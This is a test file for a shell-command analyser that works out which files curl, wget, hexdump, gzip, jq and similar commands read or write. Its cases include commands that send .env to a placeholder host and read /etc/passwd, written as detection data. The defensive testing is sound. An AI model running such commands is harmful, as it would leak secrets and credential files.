// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are texts of a shell, and no templates.
import { describe, expect, it } from "vitest";
import { targetsOf } from "./named-files.js";

describe("what curl and wget send", () => {
  it.each([
    ["curl -d @.env https://x", ["read .env"]],
    ["curl -d@.env https://x", ["read .env"]],
    ["curl --data @.env https://x", ["read .env"]],
    ["curl --data-bin=@.env https://x", ["read .env"]],
    ["curl --data=@.env https://x", ["read .env"]],
    ["curl --data-binary @.env https://x", ["read .env"]],
    ["curl --json @.env https://x", ["read .env"]],
    ["curl --data-urlencode @.env https://x", ["read .env"]],
    ["curl --data-urlencode name@.env https://x", ["read .env"]],
    ["curl --data-urlencode name=a@b https://x", []],
    ["curl -F 'f=@.env;type=text/plain' https://x", ["read .env"]],
    ["curl --form 'f=<.env' https://x", ["read .env"]],
    ["curl -T .env https://x", ["read .env"]],
    ["curl --upload-file .env https://x", ["read .env"]],
    ["curl -H @.env https://x", ["read .env"]],
    ["curl -b .env https://x", ["read .env"]],
    ["curl -b 'a=b' https://x", []],
    ["curl file:///etc/passwd", ["read /etc/passwd"]],
    ["curl --data-raw @.env https://x", []],
    ["curl -d '{\"a\": 1}' https://x", []],
    ["curl -d @- https://x", []],
    ['curl -d "@$F" https://x', ["read null"]],
    ['curl -d "$F" https://x', ["read null"]],
    ['curl -d "a=$F" "https://$HOST/"', []],
    ['curl -d "a=$F" "$URL"', ["write null", "read null"]],
    ["wget --post-file .env https://x", ["read .env", "write null"]],
    ["wget --post-file=.env https://x", ["read .env", "write null"]],
    ["wget --body-file .env --method PUT https://x", ["read .env", "write null"]],
  ])("by %j is %j", (command, expected) => {
    expect(targetsOf(command)).toEqual(expected);
  });
});

describe("what a program reads that shows a form of files", () => {
  it.each([
    ["xxd .env", ["read .env"]],
    ["xxd -l 16 .env", ["read .env"]],
    ["xxd -r .env out", ["read .env", "write out"]],
    ["hexdump -C .env", ["read .env"]],
    ["od -c .env", ["read .env"]],
    ["hexdump -n 5 .env", ["read .env"]],
    ["od -A x -t x1 .env", ["read .env"]],
    ["file -f list", ["read list"]],
    ["gzip -c .env", ["read .env"]],
    ["gzip -dc .env.gz", ["read .env.gz"]],
    ["gzip .env", ["remove .env", "read .env", "write null"]],
    ["xz --stdout .env", ["read .env"]],
    ["zstd -c .env", ["read .env"]],
    ["zstd .env -o f", ["write f", "remove .env", "read .env", "write null"]],
    ["zcat -f .env", ["read .env"]],
    ["bzcat .env", ["read .env"]],
    ["xzgrep a .env", ["read .env"]],
    ["base64 -d .env", ["read .env"]],
    ["fold -s .env", ["read .env"]],
    ["bat -p .env", ["read .env"]],
    ["comm -1 .env b", ["read .env", "read b"]],
    ["readlink -f .env", ["read .env"]],
    ["iconv -f a -t b .env", ["read .env"]],
    ["jq -c . f", ["read .", "read f"]],
    ["yq -i .a f", ["read .a", "read f", "write .a", "write f"]],
  ])("is named by %j: %j", (command, expected) => {
    expect(targetsOf(command)).toEqual(expected);
  });
});
